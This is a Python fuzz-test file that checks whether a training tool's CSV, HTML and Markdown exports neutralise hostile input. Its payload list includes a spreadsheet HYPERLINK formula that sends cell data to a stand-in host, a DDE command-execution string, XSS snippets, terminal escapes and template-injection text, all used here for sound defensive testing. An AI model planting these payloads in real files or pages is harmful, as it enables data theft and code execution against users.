"""Every CSV, HTML and Markdown export, fed hostile names, notes and ids (issue #29): no live formula, no raw
control character, no markup of the input's own in what is written."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from collections.abc import Callable
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scenarios.cli.main import main
from scenarios.engine import Playthrough
from scenarios.exports.debrief import debrief_markdown
from scenarios.records.command import to_csv as records_csv
from scenarios.records.outbox import waiting_statements
from scenarios.rehearsal import IDEAL, MAJORITY, Participants, Session
from scenarios.rehearsal.cards import deal
from scenarios.rehearsal.cards import to_html as cards_html
from scenarios.rehearsal.cards import to_markdown as cards_markdown
from scenarios.rehearsal.export import export
from scenarios.rehearsal.station_export import export_stations
from scenarios.rehearsal.stations import GRID_FIELDS, SKILL_KINDS, STATIONS, StationSession
from scenarios.store import Store
from scenarios.story.model import Story
from scenarios.trainer.session import Trainer
from scenarios.visible import UNSAFE
from tests.conftest import MINI
from tests.rehearsal.conftest import LOOKUP, FakeClock
from tests.support import story_of

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(,\d+)?(e[+-]\d+)?")
TOKENS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '"><b onmouseover=alert(3)>',
    "[x](javascript:alert(4))",
    "![i](http://evil.example/i.png)",
    "\n# EVILHEAD",
    "\n- EVILITEM",
    "\n> EVILQUOTE",
    "\n1. EVILNUMBER",
    "|EVILPIPE|",
    "**bold** _it_ `code`",
    "\x1b[2J\x1b[31m",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\u202eevil",
    "\x00\x7f\x85",
    "&amp; &lt;",
    "{{ 7*7 }} {% if 1 %}",
]
CHARACTERS = "<>&\"'[]()*_`|\\#=+-@!;, \n\t\r\x1b\x9b\u202e\x07\x00ax"
hostile = st.lists(
    st.one_of(st.sampled_from(TOKENS), st.text(alphabet=CHARACTERS, min_size=1, max_size=4)), min_size=1, max_size=4
).map("".join)
"""A name, note or id as an attacker (or a stuck key) would write it."""
name = hostile.filter(lambda text: text.strip() != "")
FUZZ = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])


# --- what every export must be ------------------------------------------------------------------
def inert_csv(text: str) -> None:
    """A CSV that Excel opens as data: no raw control character, no cell it would run as a formula."""
    assert text.startswith("\ufeff")
    assert not UNSAFE.search(text) and "\r" not in text
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"):
        for cell in row:
            live = cell.lstrip(" \n").startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
            assert cell.startswith("'") or not live, cell


LINKING = {"href", "src", "action", "formaction", "srcset", "style", "xlink:href", "data"}
"""Attributes whose value a browser follows or applies (elsewhere an input's text is only text)."""


class Tags(HTMLParser):
    """The tags and attributes of a page, and the values of those that link or style."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {attribute for attribute, _ in attrs}
        self.links += [value or "" for attribute, value in attrs if attribute in LINKING]


def tags_of(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    parser.close()
    return parser


def inert_html(page: str, benign: str) -> None:
    """A page with no raw control character and no tag, attribute or link but those the same page has
    with harmless input."""
    assert not UNSAFE.search(page)
    found, allowed = tags_of(page), tags_of(benign)
    assert found.tags <= allowed.tags, found.tags - allowed.tags
    assert found.attributes <= allowed.attributes, found.attributes - allowed.attributes
    assert not any("javascript:" in value or "evil.example" in value for value in found.links)


MARKDOWN_BLOCKS = re.compile(r"^(?:> ?)*\s*(?:#+|[-+*>]|\d+\.) EVIL", re.MULTILINE)


def inert_markdown(text: str) -> None:
    """Markdown where nothing of the input is a tag, a link, a heading, a list, a quote or a table cell."""
    assert not UNSAFE.search(text)
    assert not re.search(r"(?<!\\)<(?!br>)", text), "a tag"  # <br>: the export's own line break in a table cell
    assert not re.search(r"(?<!\\)\[", text), "a link or an image"
    assert not MARKDOWN_BLOCKS.search(text), "a block of the input's own"
    assert not re.search(r"(?<!\\)\|EVILPIPE", text), "a table cell of the input's own"


# --- the exports ----------------------------------------------------------------------------------
@cache
def stories() -> tuple[Story, Story]:
    return story_of(LOOKUP), story_of(MINI)


def rehearsal(team: str, names: list[str], note: str, phone: tuple[str, str]) -> Session:
    """A session with everything a facilitator or a phone can type: team, names, groups, notes."""
    lookup, mini = stories()
    s = Session.new(
        [lookup, mini],
        team=team,
        participants=Participants.of(names=names),
        groups=[names[:1], names[1:]],
        clock=FakeClock(),
    )
    s.start()
    s.set_count("look", 2)
    s.reveal()
    s.set_note(note)
    s.continue_with(MAJORITY)
    s.set_count("explain", 2)
    s.reveal()
    s.continue_with(MAJORITY)
    s.next_story()
    s.set_count("online", 2)
    s.reveal()
    s.continue_with(IDEAL)
    s.open_vote()
    s.reveal(accept_mismatch=True)
    s.continue_with(IDEAL)
    s.next_story()
    s.set_session_note(note)
    s.start_reflection()
    s.set_note(note)
    s.add_phone_note(*phone)
    return s


@cache
def benign_rehearsal_html() -> str:
    return export(rehearsal("Team", ["Aino", "Bo"], "A note\non two lines", ("Cai", "From a phone")), "html", "en")


@FUZZ
@given(team=hostile, first=name, second=name, note=hostile, author=hostile, phone_note=hostile)
def test_a_rehearsal_record_stays_inert(
    team: str, first: str, second: str, note: str, author: str, phone_note: str
) -> None:
    session = rehearsal(team, [first, second], note, (author, phone_note))
    for language in ("fi", "en"):
        inert_csv(export(session, "csv", language))
        inert_markdown(export(session, "md", language))
    inert_html(export(session, "html", "en"), benign_rehearsal_html())


def rotation(keepers: list[str], people: list[str], text: str) -> StationSession:
    """A station rotation with every field and note typed."""
    s = StationSession.new(keepers=dict(zip(STATIONS, keepers, strict=True)), groups=[people], clock=FakeClock())
    s.start()
    role = s.roles[0]
    for station in STATIONS:
        for field in GRID_FIELDS:
            s.fill_grid(station, role, field, text)
        for kind in SKILL_KINDS:
            s.fill_skills(station, kind, text)
    s.set_notes(text)
    return s


@cache
def benign_rotation_html() -> str:
    return export_stations(rotation(["A", "B", "C", "D"], ["E", "F"], "Text\non two lines"), "html", "en")


@FUZZ
@given(keepers=st.lists(name, min_size=4, max_size=4), people=st.lists(name, min_size=1, max_size=3), text=hostile)
def test_a_station_rotation_record_stays_inert(keepers: list[str], people: list[str], text: str) -> None:
    session = rotation(keepers, people, text)
    for language in ("fi", "en"):
        inert_csv(export_stations(session, "csv", language))
        inert_markdown(export_stations(session, "md", language))
    inert_html(export_stations(session, "html", "en"), benign_rotation_html())


@cache
def benign_cards_html() -> str:
    return cards_html(deal(["Aino", "Bo", "Cai"], list(stories()), seed=1), "en")


@FUZZ
@given(people=st.lists(name, min_size=2, max_size=6))
def test_role_cards_stay_inert(people: list[str]) -> None:
    dealt = deal(people, list(stories()), seed=1)
    inert_markdown(cards_markdown(dealt, "fi"))
    inert_html(cards_html(dealt, "en"), benign_cards_html())


@FUZZ
@given(title=hostile, reply=hostile)
def test_a_debrief_export_stays_inert(title: str, reply: str) -> None:
    # A story may hold no control character (the loader refuses them); everything else it may.
    title, reply = UNSAFE.sub("", title).replace("\t", " ") or "x", UNSAFE.sub("", reply).replace("\t", " ") or "x"
    text = MINI.replace("title: {fi: Pieni tarina, en: A small story}", f"title: {json.dumps(title)}")
    story = story_of(text.replace("en: Look it up online.}", f"en: {json.dumps(reply)}}}"))
    play = Playthrough(story, seed=0)
    play.choose_option("online")
    inert_markdown(debrief_markdown(story, play.debrief(), "en", "practice"))


# --- the trainer's report and the records, from hostile statements -------------------------------
@cache
def played_statements() -> tuple[str, ...]:
    """A real trainee's statements (JSON), to be filled with hostile names and ids."""
    with tempfile.TemporaryDirectory(prefix="safety-fuzz-") as folder:
        _, mini = stories()
        store = Store(Path(folder) / "store.sqlite3")
        store.write_setting("records", {"team": "TEAMNAME"})
        session = Trainer(store).start(mini, title="Mini", language="en", mode="practice", seed=1)
        for option in ("check", "tell"):
            session.choose(next(c.number for c in session.play.beat().choices if c.option_id == option))
        assert session.finish()
        statements = tuple(json.dumps(s) for s in waiting_statements(store))
        store.close()
    return statements


def hostile_statements(learner: str, team: str, node: str, option: str) -> list[dict[str, Any]]:
    def swap(text: str) -> str:
        for old, new in (("TEAMNAME", team), ("/start", "/" + node), ("check", option)):
            text = text.replace(json.dumps(old)[1:-1], json.dumps(new)[1:-1])
        return text

    made = [json.loads(swap(s)) for s in played_statements()]
    for statement in made:
        statement["actor"]["name"] = learner
        statement["actor"].setdefault("account", {})["name"] = learner
    return made


@cache
def benign_report_html() -> str:
    return report_files(hostile_statements("Aino", "Team", "start", "check"))[0]


def report_files(statements: list[dict[str, Any]]) -> tuple[str, str]:
    """The report's HTML page and CSV table of `statements`, made by `scenarios report` as a trainer makes them."""
    with tempfile.TemporaryDirectory(prefix="safety-fuzz-") as folder:
        source, page, table = Path(folder) / "s.jsonl", Path(folder) / "r.html", Path(folder) / "r.csv"
        source.write_text("".join(json.dumps(s) + "\n" for s in statements), encoding="utf-8")
        assert main(["--lang", "en", "report", str(source), "--html", str(page), "--csv", str(table)]) == 0
        return page.read_text(encoding="utf-8"), table.read_text(encoding="utf-8")


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(learner=hostile, team=hostile, node=hostile, option=hostile)
def test_the_report_and_the_records_export_stay_inert(learner: str, team: str, node: str, option: str) -> None:
    statements = hostile_statements(learner, team, node, option)
    inert_csv(records_csv(statements))
    page, table = report_files(statements)
    inert_csv(table)
    inert_html(page, benign_report_html())


@pytest.mark.parametrize(
    "check", [inert_csv, inert_markdown, lambda text: inert_html(text, "<p>")], ids=["csv", "md", "html"]
)
def test_the_checks_catch_what_they_look_for(check: Callable[[str], None]) -> None:
    """Each check fails on a file written without escaping (so the fuzz tests above can fail)."""
    raws: dict[Callable[[str], None], str] = {
        inert_csv: "\ufeffa;=HYPERLINK(1)\n",
        inert_markdown: "[x](javascript:alert(1))",
    }
    raw = raws.get(check, "<p><script>alert(1)</script></p>")
    with pytest.raises(AssertionError):
        check(raw)
